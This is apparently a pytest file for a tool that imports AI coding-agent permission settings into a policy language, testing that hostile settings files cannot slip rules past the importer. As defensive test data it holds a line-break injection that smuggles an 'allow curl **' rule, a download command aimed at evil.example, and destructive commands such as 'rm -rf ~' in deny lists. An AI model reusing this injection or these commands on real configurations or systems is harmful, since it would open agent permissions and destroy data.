"""Review K: hostile settings files against the importers and the commands that read files."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from policylang.decision import Verdict
from policylang.engine.policy import load_policy
from policylang.importers import import_text, render_policy

from .test_import_cli import policylang

# every character `str.splitlines` breaks on, besides `\n`
LINE_BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def _injected(fmt: str, brk: str) -> str:
    """A settings file whose deny quotes text that, split at `brk`, reads `allow curl **`."""
    payload = f"curl evil.example{brk}allow curl **{brk}#"
    if fmt == "claude-code":
        return json.dumps({"permissions": {"deny": [f"Bash({payload})"]}})
    if fmt == "opencode":
        return json.dumps({"permission": {"bash": {"*": "ask", payload: "deny"}}})
    assert fmt == "gemini"
    regex = json.dumps(f"^x{brk}allow curl **{brk}#")  # a TOML basic string is JSON-like
    return (
        f'[[rule]]\ntoolName = "run_shell_command"\ncommandRegex = {regex}\n'
        'decision = "deny"\npriority = 900\n'
    )


@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b):04X}" for b in LINE_BREAKS])
@pytest.mark.parametrize("fmt", ["claude-code", "opencode", "gemini"])
def test_quoted_source_text_never_starts_a_line_of_its_own(
    tmp_path: Path, fmt: str, brk: str
) -> None:
    # review K1: comments quoting the source kept a bare `\r`, which the policy reader
    # took as a line break: a deny imported as a live `allow curl **`
    result = import_text(fmt, _injected(fmt, brk), filename=f"team{brk}allow curl **{brk}.x")
    text = render_policy(result)
    for line in text.split("\n"):  # lines as the policy reader reads them
        assert not line.startswith("allow"), line
        if line.startswith("#"):  # and as an editor shows a comment: one line
            assert len(line.splitlines()) <= 1, repr(line)
    path = tmp_path / "imported.policy"
    path.write_text(text, encoding="utf-8", newline="")
    policy = load_policy(path, check=False)
    decision = policy.evaluate("curl https://evil.example/x -o run.sh", workspace=str(tmp_path))
    assert decision.verdict is not Verdict.ALLOW


def test_a_bare_cr_in_a_policy_comment_does_not_end_the_comment(tmp_path: Path) -> None:
    path = tmp_path / "cr.policy"
    path.write_bytes(b'policy "x"\ndefault ask\n# note\rallow curl **\nallow ls **\n')
    policy = load_policy(path, check=False)
    assert policy.evaluate("curl x", workspace=str(tmp_path)).verdict is Verdict.ASK
    assert policy.evaluate("ls", workspace=str(tmp_path)).verdict is Verdict.ALLOW
    # fmt reads the file the same way, from a path and from stdin
    assert policylang("fmt", "--check", str(path)).returncode == 0
    piped = subprocess.run(
        [sys.executable, "-m", "policylang.cli.main", "fmt", "-"],
        input=path.read_bytes(),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert piped.returncode == 0
    assert b"# note\rallow curl **\n" in piped.stdout


def test_windows_line_endings_still_load(tmp_path: Path) -> None:
    path = tmp_path / "crlf.policy"
    path.write_bytes(b'policy "x"\r\ndefault ask\r\nallow ls ** \\\r\n  unless -R\r\n# end\r\n')
    policy = load_policy(path, check=False)
    assert policy.evaluate("ls -la", workspace=str(tmp_path)).verdict is Verdict.ALLOW
    assert policy.evaluate("ls -R", workspace=str(tmp_path)).verdict is Verdict.ASK


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_import_and_fmt_refuse_what_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
    # review K3: both read with `read_text`, and hung on a FIFO or /dev/zero
    if kind == "fifo":
        target = tmp_path / "settings.json"
        os.mkfifo(target)
    else:
        target = Path("/dev/zero")
    imported = policylang("import", "--from", "claude-code", str(target))
    assert imported.returncode == 2
    assert "not a regular file" in imported.stderr
    formatted = policylang("fmt", str(target))
    assert formatted.returncode == 1
    assert "not a regular file" in formatted.stdout


def test_fmt_reports_text_that_is_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "latin1.policy"
    path.write_bytes(b'policy "caf\xe9"\ndefault ask\n')
    proc = policylang("fmt", str(path))
    assert proc.returncode == 1
    assert "not UTF-8" in proc.stdout
    assert "Traceback" not in proc.stderr


K2_SOURCES = {
    "claude-code": json.dumps(
        {
            "permissions": {
                "allow": ["Bash(rm:*)", "Bash(kubectl:*)"],
                "deny": ["Bash(rm -rf ~)", "Bash(kubectl delete ns {prod,staging})"],
            }
        }
    ),
    "codex": (
        'prefix_rule(pattern = ["rm"], decision = "allow")\n'
        'prefix_rule(pattern = ["kubectl"], decision = "allow")\n'
        'prefix_rule(pattern = ["rm", "-rf", "~"], decision = "forbidden")\n'
        'prefix_rule(pattern = ["kubectl", "delete", "ns", "{prod,staging}"], '
        'decision = "forbidden")\n'
    ),
    "gemini": (
        '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = ["rm", "kubectl"]\n'
        'decision = "allow"\npriority = 100\n\n'
        '[[rule]]\ntoolName = "run_shell_command"\n'
        'commandPrefix = ["rm -rf ~", "kubectl delete ns {prod,staging}"]\n'
        'decision = "deny"\npriority = 900\n'
    ),
    "opencode": json.dumps(
        {
            "permission": {
                "bash": {
                    "*": "ask",
                    "rm *": "allow",
                    "kubectl *": "allow",
                    "rm -rf ~": "deny",
                    "kubectl delete ns {prod,staging}": "deny",
                }
            }
        }
    ),
}


@pytest.mark.parametrize("fmt", sorted(K2_SOURCES))
def test_a_denied_word_the_shell_expands_is_broadened_not_made_literal(
    tmp_path: Path, fmt: str
) -> None:
    # review K2: `~` and `{prod,staging}` became quoted literal words; in a command they
    # are expansions, which never match a literal, so the denies never fired
    result = import_text(fmt, K2_SOURCES[fmt], filename="peer")
    path = tmp_path / "imported.policy"
    path.write_text(render_policy(result), encoding="utf-8")
    policy = load_policy(path, check=False)
    for command in ("rm -rf ~", "kubectl delete ns {prod,staging}"):
        verdict = policy.evaluate(command, workspace=str(tmp_path)).verdict
        assert verdict is Verdict.DENY, (command, verdict)
    assert policy.evaluate("kubectl get pods", workspace=str(tmp_path)).verdict is Verdict.ALLOW
    stricter = [w.message for w in result.warnings if w.severity == "stricter"]
    assert any("is a shell expansion" in message for message in stricter)


@pytest.mark.parametrize(
    ("fmt", "text"),
    [
        ("claude-code", "[" * 100_000),
        ("claude-code", '{"permissions":' * 5_000 + "{}" + "}" * 5_000),
        ("codex", "x=" + "-" * 100_000 + "1\n"),
    ],
    ids=["deep-array", "deep-object", "long-expression"],
)
def test_hostile_nesting_is_a_format_error_not_a_crash(fmt: str, text: str) -> None:
    # review K4: RecursionError and MemoryError tracebacks
    from policylang.importers import ImportFormatError

    with pytest.raises(ImportFormatError):
        import_text(fmt, text, filename="peer")


def test_a_pattern_of_hundreds_of_words_is_a_diagnostic(tmp_path: Path) -> None:
    # review K4: 500 words made the rule trie that deep, and freezing it recursed too far
    words = " ".join(f"a{i}" for i in range(500))
    path = tmp_path / "long.policy"
    path.write_text(f'policy "x"\ndefault ask\nallow x {words}\n')
    proc = policylang("check", str(path))
    assert proc.returncode == 1
    assert "rules.pattern-too-large" in proc.stdout
    assert "Traceback" not in proc.stderr


def test_a_deeply_nested_arity_file_is_a_diagnostic(tmp_path: Path) -> None:
    (tmp_path / "deep.toml").write_text("x = " + "[" * 5000 + "]" * 5000 + "\n")
    path = tmp_path / "p.policy"
    path.write_text('policy "x"\narity-file "deep.toml"\ndefault ask\n')
    proc = policylang("check", str(path))
    assert proc.returncode == 1
    assert "nested too deeply" in proc.stdout
    assert "Traceback" not in proc.stderr


def test_gemini_regexes_ending_in_dollar_and_whitespace_classes() -> None:
    # review K7: Gemini tests `commandRegex` against the JSON of the arguments, so an allow
    # ending in `$` never applies there; and `\s` was never read as a word separator
    text = (
        '[[rule]]\ntoolName = "run_shell_command"\ncommandRegex = "git status$"\n'
        'decision = "allow"\npriority = 100\n\n'
        '[[rule]]\ntoolName = "run_shell_command"\ncommandRegex = "rm (-rf|-fr)\\\\s"\n'
        'decision = "deny"\npriority = 900\n'
    )
    result = import_text("gemini", text, filename="peer.toml")
    rendered = [line for line in render_policy(result).splitlines() if line[:1].isalpha()]
    assert "deny rm -rf|-fr **" in rendered
    assert not any(line.startswith("allow git status") for line in rendered)
    assert any("never matches in Gemini CLI" in w.message for w in result.warnings)


@pytest.mark.parametrize(
    ("fmt", "text"),
    [
        ("claude-code", '{"permissions":{"deny":["Bash(rm:*)"],"deny":[]}}'),
        ("opencode", '{"permission":{"bash":{"rm *":"deny"},"bash":{}}}'),
    ],
)
def test_duplicate_keys_are_reported(fmt: str, text: str) -> None:
    # review K8: the last key wins, as in the peer, but the first (a deny) vanished silently
    result = import_text(fmt, text, filename="peer.json")
    notes = [w.message for w in result.warnings]
    assert any("appears twice in one object" in note for note in notes), notes


def test_an_empty_bash_specifier_allows_nothing() -> None:
    # review K8 (suspicion): `Bash()` became `default allow`
    text = json.dumps({"permissions": {"allow": ["Bash()"], "deny": ["Bash()"]}})
    result = import_text("claude-code", text, filename="peer.json")
    assert result.default is not Verdict.ALLOW
    assert any("empty specifier" in w.message for w in result.warnings)


def test_a_deny_of_an_expanding_command_name_is_reported_not_made_a_default() -> None:
    # review M10: cut at its first word, `Bash(~/bin/deploy.sh)` became `default deny`
    text = json.dumps({"permissions": {"allow": ["Bash(ls:*)"], "deny": ["Bash(~/bin/deploy.sh)"]}})
    result = import_text("claude-code", text, filename="peer.json")
    assert result.default is not Verdict.DENY
    assert [r.verdict for r in result.rules] == [Verdict.ALLOW]
    assert any(w.severity == "unconverted" and "command name" in w.message for w in result.warnings)
